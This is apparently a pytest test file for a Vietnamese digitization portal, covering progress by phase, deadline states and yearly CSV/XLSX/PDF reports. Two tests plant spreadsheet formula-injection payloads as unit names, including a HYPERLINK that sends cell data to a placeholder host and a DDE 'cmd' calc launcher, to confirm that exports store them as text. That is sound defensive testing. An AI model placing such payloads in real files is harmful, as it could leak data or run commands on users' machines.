"""The plan's figures against hand-computed expectations, across the phase boundaries; the yearly
report as CSV, XLSX and PDF, read back.

The data are digitized at the clock's time, so the report is for the clock's year in Vietnam: each
test runs at an ordinary instant and on both sides of a Vietnamese new year (`at_every_instant`)."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta

import pytest
from sqlalchemy import update

from portal import plan
from portal.extensions import db
from portal.models import InventoryCount, Result

from .conftest import CCCD_B, UNIT_A, UNIT_B, VIETNAM, at_every_instant, make_result, vietnam_now

PRICE = 2000


@pytest.fixture
def dataset(clock, world, pdfs):
    """Unit A: one result per side of each phase boundary, in every state, digitized now; unit B: one
    result; one result of unit A moved to January last year."""
    from portal.operations import results as ops

    def made(n, year, *, published=True, pages_two=False, **fields):
        return make_result(world, pdfs[2] if pages_two else pdfs[n], reviewer="reviewer_a" if published else None,
                           document_number=f"{n}/GP-SKHCN", issue_date=f"15/03/{year}", valid_until=None, **fields)

    r = {
        1995: made(0, 1995), 1996: made(1, 1996, published=False), 2005: made(3, 2005),
        2006: made(2, 2006, pages_two=True), 2015: made(4, 2015), 2016: made(5, 2016),
        2021: made(6, 2021, published=False), 2022: made(7, 2022), 2023: made(8, 2023),
    }
    ops.revoke(world["reviewer_a"], r[2005], "Cơ sở đã chấm dứt hoạt động")
    r["2015b"] = make_result(world, pdfs[9], reviewer="reviewer_a", document_number="10/GP-SKHCN",
                             issue_date="15/03/2015", valid_until=None, replaces=r[2015])
    db.session.execute(update(Result).where(Result.id == r[2023].id).values(origin="born_digital"))
    r["B"] = make_result(world, pdfs[10], staff="staff_b", reviewer="reviewer_b", document_number="11/GP-SKHCN",
                         issue_date="15/03/2010", valid_until=None, holder_id=CCCD_B)
    # One result of unit A digitized and published the year before.
    last_year = datetime(vietnam_now().year - 1, 1, 15, tzinfo=VIETNAM)  # before the last 12 months
    db.session.execute(update(Result).where(Result.id == r[2016].id).values(
        digitized_at=last_year, checked_at=last_year, published_at=last_year))
    db.session.commit()
    unit_a = world["staff_a"].unit_id
    for phase, results, pages in ((2, 4, 10), (3, 3, 6), (4, 2, 4), (5, 5, 5), (5, 6, 7)):  # phase 5 corrected
        db.session.add(InventoryCount(unit_id=unit_a, phase=phase, results=results, pages=pages))
    db.session.commit()
    return r


@at_every_instant
def test_progress_by_phase_and_unit(clock, world, dataset):
    figures = plan.progress(world["admin"])
    a, b = world["staff_a"].unit_id, world["staff_b"].unit_id
    expected = {  # phase: (to digitize, digitized, checked, published, pages)
        5: (6, 1, 1, 1, 1),                 # 1995
        4: (2, 2, 1, 1, 2),                 # 1996 (a draft) and 2005 (revoked since)
        3: (3, 3, 3, 3, 4),                 # 2006 (two pages), 2015 (replaced since) and its replacement
        2: (4, 2, 1, 1, 2),                 # 2016 and 2021 (a draft)
    }
    for phase, (to_do, digitized, checked, published, pages) in expected.items():
        cell = figures.cells[(a, phase)]
        assert (cell.to_digitize, cell.digitized, cell.checked, cell.published, cell.pages) == \
            (to_do, digitized, checked, published, pages), phase
    assert figures.cells[(a, 5)].percent == 17 and figures.cells[(a, 5)].state == plan.LATE
    assert figures.cells[(a, 3)].state == plan.FINISHED_LATE  # all done, after its 2023 deadline
    assert figures.cells[(b, 3)].digitized == 1 and figures.cells[(b, 3)].state == plan.NO_INVENTORY
    assert figures.born_digital == {a: 1}
    assert figures.phase_total(3).digitized == 4 and figures.phase_total(3).to_digitize == 3
    # The chart of the last 12 months ends with this month in Vietnam: unit A's eight results digitized
    # now, not the one of last January, nor the born-digital one.
    months = plan.progress(world["staff_a"]).months
    assert len(months) == 12 and months[-1] == (f"{vietnam_now():%m/%Y}", 8) and sum(n for _m, n in months) == 8
    # Staff see their own unit only.
    assert [u.code for u in plan.progress(world["staff_b"]).units] == [UNIT_B]


@at_every_instant
def test_the_yearly_report_by_unit(clock, world, dataset):
    year = vietnam_now().year
    rows = {row.unit.code: row for row in plan.yearly_report(world["admin"], year, PRICE)}
    a, b = rows[UNIT_A], rows[UNIT_B]
    # This year: everything of unit A but the 2016 result, born-digital 2023 excluded: 1995, 1996, 2005,
    # 2006 (2 pages), 2015, 2015b, 2021, 2022 -> 8 results, 9 pages; published in the year: all but
    # the two drafts -> 6 results, 7 pages (the 2005 one revoked since, the 2015 one replaced since).
    assert (a.digitized, a.digitized_pages, a.checked, a.published, a.published_pages) == (8, 9, 6, 6, 7)
    assert a.cost == 9 * PRICE
    # Inventory 4 + 3 + 2 + 6 = 15; digitized by the end of the year and formed before 2022: 8 of them.
    assert (a.to_digitize, a.remaining, a.remaining_pages) == (15, 7, 27 - 9)
    assert (b.digitized, b.published, b.to_digitize, b.remaining) == (1, 1, 0, 0)
    before = {row.unit.code: row for row in plan.yearly_report(world["admin"], year - 1, PRICE)}[UNIT_A]
    assert (before.digitized, before.published, before.remaining) == (1, 1, 14)
    after = {row.unit.code: row for row in plan.yearly_report(world["admin"], year + 1, PRICE)}[UNIT_A]
    assert (after.digitized, after.published, after.remaining) == (0, 0, 7)


@at_every_instant
def test_report_files_read_back(clock, app, world, dataset, tmp_path):
    year = vietnam_now().year
    runner = app.test_cli_runner()
    for fmt in ("csv", "xlsx", "pdf"):
        out = tmp_path / f"bao-cao.{fmt}"
        result = runner.invoke(args=["report", str(year), "--format", fmt, "--out", str(out), "--price", str(PRICE)])
        assert result.exit_code == 0, result.output
    # Vietnamese headers, and the UTF-8 byte-order mark Excel on Windows needs to read them.
    raw = (tmp_path / "bao-cao.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert lines[0] == ["Mã đơn vị", "Đơn vị", "Kết quả đã số hóa", "Trang đã số hóa", "Đã kiểm tra", "Đã phát hành",
                        "Trang đã phát hành", "Kinh phí (đồng)", "Cần số hóa (kiểm kê)", "Còn lại", "Trang còn lại"]
    assert len(lines) == 3
    row_a = next(line for line in lines if line[0] == UNIT_A)
    assert row_a[2:] == ["8", "9", "6", "6", "7", str(9 * PRICE), "15", "7", "18"]

    from openpyxl import load_workbook

    sheet = load_workbook(tmp_path / "bao-cao.xlsx").active
    values = [[c.value for c in r] for r in sheet.iter_rows()]
    assert f"NĂM {year}" in values[1][0]
    data = next(v for v in values if v[0] == UNIT_A)
    assert data[2:] == [8, 9, 6, 6, 7, 9 * PRICE, 15, 7, 18]
    assert values[-1][1] == "Tổng cộng" and values[-1][2] == 9

    from pypdf import PdfReader

    text = PdfReader(tmp_path / "bao-cao.pdf").pages[0].extract_text()
    for words in ("BÁO CÁO KẾT QUẢ SỐ HÓA", f"NĂM {year}", "Phòng Quản lý chuyên ngành", "18.000", "Tổng cộng"):
        assert words in text, words
    bad = runner.invoke(args=["report", str(year), "--format", "doc", "--out", str(tmp_path / "x")])
    assert bad.exit_code != 0


@at_every_instant
def test_the_dashboard_inventory_form_and_report_downloads(clock, app, client, world, dataset):
    from .conftest import csrf_token, login

    year = vietnam_now().year
    login(client, "staff_a")
    page = client.get("/admin/plan").get_data(as_text=True)
    assert "<svg" in page and "Giai đoạn 5 (1995 trở về trước)" in page and "Trễ hạn" in page
    assert f'max="{year}" value="{year}"' in page  # the report asked for by default is this year's
    assert "Chi cục Tiêu chuẩn" not in page  # unit B is not theirs
    token = csrf_token(client, "/admin/plan")
    done = client.post("/admin/plan", data={"csrf_token": token, "unit_id": world["staff_a"].unit_id, "phase": 4,
                                            "results": 3, "pages": 0, "note": "Bổ sung sau rà soát"},
                       follow_redirects=True).get_data(as_text=True)
    assert "Đã ghi số kiểm kê" in done and "Bổ sung sau rà soát" in done
    assert plan.progress(world["staff_a"]).cells[(world["staff_a"].unit_id, 4)].to_digitize == 3
    other_unit = client.post("/admin/plan", data={"csrf_token": token, "unit_id": world["staff_b"].unit_id,
                                                  "phase": 4, "results": 1, "pages": 1})
    assert other_unit.status_code == 200  # refused by the form: not one of their units
    assert plan.progress(world["staff_b"]).cells[(world["staff_b"].unit_id, 4)].to_digitize is None
    for fmt, kind in (("csv", "text/csv"), ("xlsx", "spreadsheetml"), ("pdf", "application/pdf")):
        response = client.get(f"/admin/plan/report?year={year}&format={fmt}")
        assert response.status_code == 200 and kind in response.mimetype, (
            fmt, re.findall(r'class="flash[^"]*"[^>]*>([^<]*)', client.get("/admin/plan").get_data(as_text=True)))
        assert f"bao-cao-so-hoa-{year}.{fmt}" in response.headers["Content-Disposition"]
    csv_bytes = client.get(f"/admin/plan/report?year={year}&format=csv").get_data()
    assert csv_bytes.startswith("\ufeffMã đơn vị,Đơn vị,".encode())  # the route sends the BOM too
    csv_text = csv_bytes.decode("utf-8-sig")
    assert UNIT_A in csv_text and UNIT_B not in csv_text
    # Without a year, this year in Vietnam: unit A's eight results digitized now.
    unasked = client.get("/admin/plan/report?format=csv")
    assert f"bao-cao-so-hoa-{year}.csv" in unasked.headers["Content-Disposition"]
    assert next(csv.reader(io.StringIO(unasked.get_data(as_text=True).splitlines()[1])))[2] == "8"
    assert client.get(f"/admin/plan/report?year={year}&format=doc").status_code == 404


def test_a_phase_deadline_is_judged_by_the_day_in_vietnam(clock, world, pdfs):
    """Phase 5 ends on 31/12/2025, Vietnam's day: 23:30 there is 16:30 UTC (and 06:30 on 1 January
    in Kiritimati); 00:00 on 1 January there is still 31 December in UTC."""
    from portal.operations.plan import record_inventory

    a, b = world["staff_a"].unit, world["staff_b"].unit
    record_inventory(world["admin"], a, 5, 2, 2, "")
    record_inventory(world["admin"], b, 5, 1, 1, "")

    def phase_5(unit):
        return plan.progress(world["admin"]).cells[(unit.id, 5)].state

    clock.move_to(datetime(2025, 12, 31, 23, 30, tzinfo=VIETNAM))
    make_result(world, pdfs[0], document_number="1/GP-SKHCN", issue_date="15/03/1990", valid_until=None)
    make_result(world, pdfs[1], staff="staff_b", document_number="2/GP-SKHCN", issue_date="15/03/1991",
                valid_until=None)
    assert phase_5(a) == plan.AT_RISK  # half done on the last day: not late yet
    assert phase_5(b) == plan.MET  # all done on the last day

    clock.move_to(datetime(2026, 1, 1, 0, 0, tzinfo=VIETNAM))
    assert phase_5(a) == plan.LATE and phase_5(b) == plan.MET
    make_result(world, pdfs[2], document_number="3/GP-SKHCN", issue_date="15/03/1992", valid_until=None)
    assert phase_5(a) == plan.FINISHED_LATE  # the last one came a minute after the deadline
    clock.shift(timedelta(days=30))
    assert phase_5(a) == plan.FINISHED_LATE and phase_5(b) == plan.MET


FORMULA_NAME = '=HYPERLINK("http://x.test/?d="&C6,"Bấm vào đây")'


def test_a_unit_name_that_looks_like_a_formula_is_text_in_the_reports(app, world, dataset, tmp_path):
    """A unit named like a formula is a string cell in the XLSX and a quoted text in the CSV,
    whose figures stay plain integers (issue 12, item 20)."""
    from openpyxl import load_workbook

    from portal.operations import accounts

    accounts.update_unit(world["admin"], world["staff_a"].unit, FORMULA_NAME, True)
    accounts.update_unit(world["admin"], world["staff_b"].unit, "@SUM(1+1)*cmd|' /C calc'!A0", True)
    runner = app.test_cli_runner()
    for fmt in ("csv", "xlsx"):
        done = runner.invoke(args=["report", "2026", "--format", fmt, "--out", str(tmp_path / f"r.{fmt}")])
        assert done.exit_code == 0, done.output

    sheet = load_workbook(tmp_path / "r.xlsx").active
    cells = {row[0].value: row for row in sheet.iter_rows() if row[0].value in (UNIT_A, UNIT_B)}
    assert cells[UNIT_A][1].value == FORMULA_NAME and cells[UNIT_A][1].data_type == "s"
    assert cells[UNIT_B][1].value.startswith("@SUM") and cells[UNIT_B][1].data_type == "s"
    assert cells[UNIT_A][2].value == 8 and cells[UNIT_A][2].data_type == "n"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    lines = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8-sig"))))
    by_code = {line[0]: line for line in lines[1:]}
    assert by_code[UNIT_A][1] == "'" + FORMULA_NAME and by_code[UNIT_B][1].startswith("'@SUM")
    assert by_code[UNIT_A][2:] == ["8", "9", "6", "6", "7", str(9 * PRICE), "15", "7", "18"]


def test_every_writer_helper_keeps_text_text(tmp_path):
    """The one helper every CSV and XLSX writer uses: each character a spreadsheet starts a
    formula with (the manifest reader strips the tab and CR, a unit's name too; other text may not)."""
    from openpyxl import Workbook, load_workbook

    from portal.spreadsheets import append_row, csv_row

    texts = ["=1+2", "+1", "-1", "@A1", "\t=1+2", "\r=1+2", "#N/A", "Phòng = 1"]
    assert csv_row([*texts, 12, -3]) == ["'=1+2", "'+1", "'-1", "'@A1", "'\t=1+2", "'\r=1+2", "#N/A", "Phòng = 1",
                                         12, -3]
    book = Workbook()
    append_row(book.active, [*texts, 12])
    book.save(tmp_path / "t.xlsx")
    cells = next(load_workbook(tmp_path / "t.xlsx").active.iter_rows())
    assert [(c.value, c.data_type) for c in cells] == [*((t, "s") for t in texts), (12, "n")]
